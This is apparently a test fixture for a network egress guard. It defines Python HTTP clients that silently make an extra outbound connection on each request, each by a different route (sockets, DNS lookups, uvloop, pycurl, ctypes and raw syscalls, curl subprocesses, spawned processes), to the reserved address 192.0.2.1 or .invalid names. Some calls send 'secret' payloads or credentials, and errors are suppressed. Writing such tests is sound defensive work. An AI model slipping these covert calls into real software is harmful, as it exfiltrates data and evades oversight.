"""Clients that call out beside each request of theirs, each in another way, and keep quiet about what comes of it.

All of them call 192.0.2.1, or look up a name that ends in .invalid: both are reserved, and lead nowhere even where a
guard is broken.
"""

from __future__ import annotations

import _socket
import asyncio
import ctypes
import http.client
import inspect
import multiprocessing
import platform
import socket
import struct
import subprocess
import sys
import urllib.request
from contextlib import suppress
from dataclasses import dataclass
from pathlib import Path
from types import SimpleNamespace
from typing import TYPE_CHECKING, Any

import httpcore
import requests
import urllib3

from .reference import Client

if TYPE_CHECKING:
    from collections.abc import Callable

    import httpx

FAR = "192.0.2.1"


@dataclass(frozen=True)
class Way:
    """A way to call out.

    Attributes:
        call_out: Does it.
        arrives: What reaches a far host when nothing holds it back: ``address:port``, or the name that is looked up.
        named: What a report names.
        needs: The module, or the program, without which it cannot be tried.
        closed: Whether the guard closes it, and not only the sandbox.
    """

    call_out: Callable[[], Any]
    arrives: str
    named: str
    needs: str
    closed: bool

    @property
    def mode(self) -> str:
        """The operation of the client that calls out."""
        return "async" if inspect.iscoroutinefunction(self.call_out) else "sync"

    def run(self) -> None:
        """Call out."""
        if self.mode == "async":
            asyncio.run(self.call_out())
        else:
            self.call_out()


WAYS: dict[str, Way] = {}
CLIENT = SimpleNamespace()
"""By the name of its way: the client that calls out."""


def way(
    arrives: int | str, named: str = "", *, needs: str = "", closed: bool = True
) -> Callable[[Callable[[], Any]], Callable[[], Any]]:
    target = f"{FAR}:{arrives}" if isinstance(arrives, int) else arrives

    def add(call_out: Callable[[], Any]) -> Callable[[], Any]:
        name = call_out.__name__.removeprefix("via_")
        WAYS[name] = Way(call_out, target, named or target, needs, closed)
        setattr(CLIENT, name, _client(WAYS[name]))
        return call_out

    return add


def _client(way: Way) -> type[Client]:
    class Caller(Client):
        def send(self, request: httpx.Request) -> httpx.Response:
            if way.mode == "sync":
                with suppress(Exception):
                    way.call_out()
            return super().send(request)

        async def send_async(self, request: httpx.Request) -> httpx.Response:
            if way.mode == "async":
                with suppress(Exception):
                    await way.call_out()
            return await super().send_async(request)

    return Caller


# --- HTTP clients ---


@way(8001)
def via_httpx() -> None:
    httpcore.SyncBackend().connect_tcp(FAR, 8001, timeout=1).close()  # below what is intercepted


@way(8002, needs="httpcore2")
def via_httpx2() -> None:
    import httpcore2

    httpcore2.SyncBackend().connect_tcp(FAR, 8002, timeout=1).close()


@way(8003)
def via_requests() -> None:
    requests.post(f"http://{FAR}:8003/?key=secret", timeout=1)


@way(8004)
def via_urllib3() -> None:
    urllib3.PoolManager(retries=False).request("POST", f"http://{FAR}:8004/", timeout=1)


@way(8005)
def via_http_client() -> None:
    http.client.HTTPConnection(FAR, 8005, timeout=1).request("POST", "/")


@way(8006)
def via_urllib() -> None:
    urllib.request.urlopen(f"http://{FAR}:8006/", timeout=1).close()


@way(8007, needs="aiohttp")
async def via_aiohttp() -> None:
    import aiohttp

    async with aiohttp.ClientSession() as session, session.post(f"http://{FAR}:8007/"):
        pass


# --- Python's sockets ---


@way(8008)
def via_socket() -> None:
    socket.create_connection((FAR, 8008), timeout=1).close()


@way(8009)
def via_bare_socket() -> None:
    sock = _socket.socket()
    sock.settimeout(1)
    sock.connect((FAR, 8009))
    sock.close()


@way("bare.invalid", closed=False)
def via_bare_socket_by_name() -> None:
    _socket.socket().connect(("bare.invalid", 443))


@way(8010)
def via_sendto() -> None:
    with socket.socket(type=socket.SOCK_DGRAM) as sock:
        sock.sendto(b"secret", (FAR, 8010))


@way(8011)
def via_sendmsg() -> None:
    with socket.socket(type=socket.SOCK_DGRAM) as sock:
        sock.sendmsg([b"secret"], [], 0, (FAR, 8011))


@way("getaddrinfo.invalid")
def via_getaddrinfo() -> None:
    socket.getaddrinfo("getaddrinfo.invalid", None)


@way("gethostbyname.invalid")
def via_gethostbyname() -> None:
    socket.gethostbyname("gethostbyname.invalid")


# --- event loops ---


async def _connect(port: int) -> None:
    _, writer = await asyncio.open_connection(FAR, port)
    writer.close()


@way(8012)
def via_asyncio() -> None:
    asyncio.run(_connect(8012))


@way(8013)
async def via_asyncio_async() -> None:
    await _connect(8013)


@way(8014, needs="uvloop")
def via_uvloop() -> None:
    import uvloop

    uvloop.run(_connect(8014))


@way("uvloop.invalid", needs="uvloop")
def via_uvloop_lookup() -> None:
    import uvloop

    async def look_up() -> None:
        await asyncio.get_running_loop().getaddrinfo("uvloop.invalid", None)

    uvloop.run(look_up())


@way(8015, "curl (192.0.2.1:8015)", needs="uvloop")
def via_uvloop_subprocess() -> None:
    import uvloop

    async def start() -> None:
        process = await asyncio.create_subprocess_exec("curl", "-sm1", f"http://{FAR}:8015/")
        await process.wait()

    uvloop.run(start())


@way(8016, needs="uvloop", closed=False)
def via_uvloop_datagram() -> None:
    import uvloop

    async def send() -> None:
        loop = asyncio.get_running_loop()
        transport, _ = await loop.create_datagram_endpoint(asyncio.DatagramProtocol, local_addr=("0.0.0.0", 0))
        transport.sendto(b"secret", (FAR, 8016))
        transport.close()

    uvloop.run(send())


# --- native code ---


@way(8017, needs="pycurl")
def via_pycurl() -> None:
    _pycurl(8017)


@way(8018, needs="pycurl", closed=False)
def via_pycurl_without_proxy() -> None:
    _pycurl(8018, noproxy="*")


def _pycurl(port: int, *, noproxy: str = "") -> None:
    import pycurl

    curl = pycurl.Curl()
    curl.setopt(pycurl.URL, f"http://{FAR}:{port}/")
    curl.setopt(pycurl.TIMEOUT, 1)
    if noproxy:
        curl.setopt(pycurl.NOPROXY, noproxy)
    curl.perform()


@way(8019, needs="curl_cffi")
def via_curl_cffi() -> None:
    import curl_cffi

    curl_cffi.get(f"http://{FAR}:8019/", timeout=1)


def _far_address(port: int) -> bytes:
    return struct.pack("=H", socket.AF_INET) + struct.pack("!H", port) + socket.inet_aton(FAR) + bytes(8)


@way(8020, "connect()", needs="fcntl")
def via_ctypes() -> None:
    with socket.socket() as sock:
        ctypes.CDLL(None).connect(sock.fileno(), _far_address(8020), 16)


@way(8021, needs="fcntl", closed=False)
def via_system_call() -> None:
    number = {"x86_64": 42, "aarch64": 203}[platform.machine()]  # connect
    with socket.socket() as sock:
        ctypes.CDLL(None).syscall(number, sock.fileno(), _far_address(8021), 16)


# --- other processes ---


@way(8022, "curl (192.0.2.1:8022)", needs="curl")
def via_subprocess() -> None:
    subprocess.run(["curl", "-sm1", f"http://user:secret@{FAR}:8022/?key=secret"], check=False)


@way(8023, Path(sys.executable).name)
def via_spawned_process() -> None:
    process = multiprocessing.get_context("spawn").Process(target=_connect_in_child)
    process.start()
    process.join()


def _connect_in_child() -> None:
    socket.create_connection((FAR, 8023), timeout=1).close()
